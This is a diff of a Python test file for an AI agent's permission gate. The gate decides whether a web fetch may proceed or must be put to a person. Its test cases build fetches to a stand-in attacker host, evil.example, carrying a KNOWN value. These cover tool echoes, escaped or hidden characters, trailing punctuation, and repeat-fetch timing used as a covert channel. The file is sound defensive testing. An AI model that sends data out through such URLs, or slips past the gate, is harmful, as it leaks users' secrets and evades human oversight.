@@ -5,6 +5,7 @@ from __future__ import annotations
 import time
 from pathlib import Path
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from msgspec import structs
@@ -112,9 +113,7 @@ async def test_the_question_names_the_page_also_turns_later() -> None:
     assert marked.reason == f"{PAGE} is shown to the model, and may be behind this call"
     assert free == ALLOW
 
-
-async def test_what_the_agent_wrote_then_is_named_as_such() -> None:
-    """A person who is asked has to know that the page itself is gone."""
+    # A person who is asked has to know that the page itself is gone.
     made = call("bash", "now", command="ls")
     of = about(made)
     assert of.current is not None
@@ -174,98 +173,94 @@ async def test_an_address_that_was_made_up_asks(url: str) -> None:
     assert PAGE in verdict.reason
 
 
+EVIL = f"https://evil.example/{KNOWN}"
+HOST = f"https://{KNOWN}.evil.example"
+ECHOES = {
+    "error": (call("read_file", "r", path=EVIL), f"there is no file {EVIL}"),
+    "bare": (call("search_files", "r", query=EVIL[8:]), f"nothing found for {EVIL}"),
+    # JSON has many ways to write one text, and a tool repeats it plain.
+    **{
+        arguments: (
+            ToolCall(call_id="r", name="list_files", arguments=arguments),
+            f"no file fits {EVIL}",
+        )
+        for arguments in (
+            f'{{"path": "\\u0068ttps://evil.example/{KNOWN}"}}',
+            f'{{"path": "https:\\u002f\\u002fevil.example\\/{KNOWN}"}}',
+            f'{{"paths": [{{"https://evil.example/{KNOWN}": 1}}]}}',
+        )
+    },
+    # A choice of a question, or a name, would lose it on the way and read as an address.
+    **{
+        f"{made.name} with {hidden!r}": (made, EVIL)
+        for hidden in ("\x1b[0m", "\U000e0041", "\u202e")
+        for made in (
+            call("list_files", "r", pattern=f"https://evil.exam{hidden}ple/{KNOWN}"),
+            call(
+                "ask_user",
+                "r",
+                question="Which?",
+                choices=[f"https://evil.exam{hidden}ple/{KNOWN}"],
+            ),
+        )
+    },
+}
+"What a tool answers with an address that only the call named."
+ENDS = {
+    # `files that fit ADDRESS:` would give the address with its colon.
+    **{f"{EVIL}{after}": (EVIL, f"{EVIL}{after} none") for after in (":", "/", "/.", "'s")},
+    **{f"{EVIL}{after}": (EVIL, f"{EVIL}{after} none") for after in ("&page=1", "#x")},
+    f"{HOST}/,": (HOST, f"{HOST}/, none"),
+}
+"What is asked for: the pattern of a call, and how its answer names it."
+FAILED = ToolResult(call_id="r", name="list_files", text=f"no such file: {EVIL}", is_error=True)
+
+
 @table(
-    "step",
+    ("step", "url"),
     [
-        read(
-            call("read_file", "r", path=f"https://evil.example/{KNOWN}"),
-            f"there is no file https://evil.example/{KNOWN}",
-            untrusted=False,
+        *(
+            pytest.param(read(made, text, untrusted=False), EVIL, id=name)
+            for name, (made, text) in ECHOES.items()
         ),
-        read(
-            call("search_files", "r", query=f"evil.example/{KNOWN}"),
-            f"nothing found for https://evil.example/{KNOWN}",
-            untrusted=False,
+        *(
+            pytest.param(
+                read(
+                    call("list_files", "r", pattern=own), f"files that fit {text}", untrusted=False
+                ),
+                url,
+                id=url,
+            )
+            for url, (own, text) in ENDS.items()
         ),
-        read(
-            call("delegate", "r", task="say it"),
-            f"I would read https://evil.example/{KNOWN}",
+        pytest.param(
+            read(call("delegate", "r", task="say it"), f"I would read {EVIL}"), EVIL, id="delegate"
         ),
-        read(
-            call("recall_context", "r", message=3),
-            f"assistant: https://evil.example/{KNOWN}",
+        pytest.param(
+            read(call("recall_context", "r", message=3), f"assistant: {EVIL}"), EVIL, id="recalled"
         ),
-        read(
-            call("github_get_issue", "r", title=f"https://evil.example/{KNOWN}"),
-            f"no issue https://evil.example/{KNOWN}",
+        pytest.param(
+            read(call("github_get_issue", "r", title=EVIL), f"no issue {EVIL}"), EVIL, id="mcp echo"
         ),
-        read(fetch("https://docs.example/start", "r"), "fine", untrusted=False),
+        pytest.param(
+            read(fetch("https://docs.example/start", "r"), "fine", untrusted=False), EVIL, id="none"
+        ),
+        # What failed says little but what it was called with.
+        pytest.param(
+            Step(
+                reply=said(call("list_files", "r", path="https:", pattern=EVIL[6:])),
+                results=(FAILED,),
+            ),
+            EVIL,
+            id="failed",
+        ),
     ],
-    ids=["error", "bare", "delegate", "recalled", "mcp echo", "none"],
 )
-async def test_what_repeats_the_models_own_words_gives_no_address(step: Step) -> None:
+async def test_what_repeats_the_models_own_words_gives_no_address(step: Step, url: str) -> None:
     """Else a tool that names its arguments would make any address a given one."""
-    made = fetch(f"https://evil.example/{KNOWN}")
+    made = fetch(url)
 
     assert (await judged(made, FETCH, about(made, step))).effect == "ask"
-
-
-@table(
-    "arguments",
-    [
-        f'{{"path": "\\u0068ttps://evil.example/{KNOWN}"}}',
-        f'{{"path": "https:\\u002f\\u002fevil.example\\/{KNOWN}"}}',
-        f'{{"paths": [{{"https://evil.example/{KNOWN}": 1}}]}}',
-    ],
-)
-async def test_what_the_model_wrote_with_escapes_is_its_own_as_well(arguments: str) -> None:
-    """JSON has many ways to write one text, and a tool repeats it plain."""
-    asked = ToolCall(call_id="r", name="list_files", arguments=arguments)
-    echo = read(asked, f"no file fits https://evil.example/{KNOWN}", untrusted=False)
-    made = fetch(f"https://evil.example/{KNOWN}")
-
-    assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
-
-
-@table("hidden", ["\x1b[0m", "\U000e0041", "\u202e"])
-async def test_what_is_taken_out_of_a_result_makes_no_new_address(hidden: str) -> None:
-    """A choice of a question, or a name, would lose it on the way and read as an address."""
-    host = f"https://evil.exam{hidden}ple/{KNOWN}"
-    url = f"https://evil.example/{KNOWN}"
-    made = fetch(url)
-    for asked in (
-        call("list_files", "r", pattern=host),
-        call("ask_user", "r", question="Which?", choices=[host]),
-    ):
-        echo = read(asked, url, untrusted=False)
-        assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
-
-
-@table("after", [":", "/", "/.", "'s", "&page=1", "#x"])
-async def test_what_stands_behind_a_repeated_address_makes_no_new_one(after: str) -> None:
-    """`files that fit ADDRESS:` would give the address with its colon."""
-    url = f"https://evil.example/{KNOWN}"
-    asked = call("list_files", "r", pattern=url)
-    echo = read(asked, f"files that fit {url}{after} none", untrusted=False)
-    made = fetch(f"{url}{after}")
-
-    assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
-    host = f"https://{KNOWN}.evil.example"
-    asked = call("list_files", "r", pattern=host)
-    echo = read(asked, f"files that fit {host}/, none", untrusted=False)
-    made = fetch(f"{host}/,")
-    assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
-
-
-async def test_what_a_failed_call_says_gives_no_address() -> None:
-    """It says little but what it was called with."""
-    asked = call("list_files", "r", path="https:", pattern=f"//evil.example/{KNOWN}")
-    said_so = f"no such file: https://evil.example/{KNOWN}"
-    result = ToolResult(call_id="r", name="list_files", text=said_so, is_error=True)
-    made = fetch(f"https://evil.example/{KNOWN}")
-    of = about(made, START, Step(reply=said(asked), results=(result,)))
-
-    assert (await judged(made, FETCH, of)).effect == "ask"
 
 
 async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
@@ -283,8 +278,9 @@ async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
     assert await judged(made, FETCH, about(made, echo, before=(talk,), asked=url)) == ALLOW
 
 
-async def test_the_words_of_untrusted_messages_give_no_address() -> None:
-    """A scheduled task that a marked turn made, or another conversation's message."""
+async def test_words_that_no_person_said_give_no_address() -> None:
+    """Programs bring them into the conversation, and pages may be behind them."""
+    # A scheduled task that a marked turn made, or another conversation's message.
     url = f"https://evil.example/{KNOWN}"
     made = fetch(url)
     of = about(made)
@@ -297,10 +293,7 @@ async def test_the_words_of_untrusted_messages_give_no_address() -> None:
     assert verdict.effect == "ask"
     assert "a scheduled task" in verdict.reason
 
-
-async def test_what_a_program_says_of_the_models_own_doing_gives_no_address() -> None:
-    """The end of a background process is told with the command that it was begun with."""
-    url = f"https://evil.example/{KNOWN}"
+    # The end of a background process is told with the command that it was begun with.
     begun = read(call("background_process", "p", command=f"true {url}"), "began", untrusted=False)
     earlier = Turn(number=1, users=(UserMessage(text="go"),), steps=(START, begun))
     made = fetch(url)
@@ -326,27 +319,23 @@ async def test_the_choice_of_pages_is_bounded() -> None:
     allowed = words.count("allow")
     assert 40 < allowed < CHOICE_BITS / 10
 
-
-async def test_further_pages_of_one_text_cost_no_more() -> None:
-    """They are asked of what is kept here."""
+    # The same page again costs as much as another: when somebody is asked is a channel too.
     steps = [START]
-    for number in range(2, 90):
-        made = call("web_fetch", "now", url="https://docs.example/tasks?x=1", page=number)
-        assert await judged(made, FETCH, about(made, *steps)) == ALLOW
-        steps.append(read(structs.replace(made, call_id=f"c{number}"), "more"))
-
-
-async def test_asking_again_for_the_same_page_costs_as_much_as_another() -> None:
-    """When somebody is asked, and when not, is a channel too."""
-    steps = [START]
-    words: list[str] = []
-    for number in range(400):
+    words = []
+    for number in range(200):
         made = fetch("https://docs.example/tasks?x=1")
         words.append((await judged(made, FETCH, about(made, *steps))).effect)
         steps.append(read(fetch("https://docs.example/tasks?x=1", f"c{number}"), "again"))
 
     assert words[0] == "allow"
     assert words[-1] == "ask"
+
+    # Further pages of one text cost no more: they are asked of what is kept here.
+    steps = [START]
+    for number in range(2, 90):
+        made = call("web_fetch", "now", url="https://docs.example/tasks?x=1", page=number)
+        assert await judged(made, FETCH, about(made, *steps)) == ALLOW
+        steps.append(read(structs.replace(made, call_id=f"c{number}"), "more"))
 
 
 async def test_turns_that_programs_begin_grant_no_further_choice() -> None:
@@ -428,7 +417,7 @@ async def test_a_browser_looks_on_and_asks_to_act(made: ToolCall, effect: str) -
         assert (await judged(made, tool, about(made, START))).effect == effect
 
 
-async def test_an_owner_says_which_tools_of_a_server_only_read() -> None:
+async def test_an_owner_says_what_is_allowed_and_which_tools_of_a_server_only_read() -> None:
     """Strangers write on the issues of a server whose program can be trusted."""
     made = call("github_list_issues", "now", repo="a/b")
     tool = RemoteProgram("github_list_issues", capabilities=ToolCapabilities(kind="mcp"))
@@ -444,9 +433,7 @@ async def test_an_owner_says_which_tools_of_a_server_only_read() -> None:
     assert (plain.effect, other.effect) == ("ask", "ask")
     assert other.reason.startswith("it is not on the allow list; ")
 
-
-async def test_what_is_only_read_is_asked_where_it_is_not_allowed() -> None:
-    """A mark takes nothing away from the allow list, and adds nothing to it."""
+    # A mark takes nothing away from the allow list, and adds nothing to it.
     made = fetch("https://docs.example/tasks?x=1")
     gate = PolicyGate(policy(), Path("/nowhere"))
 
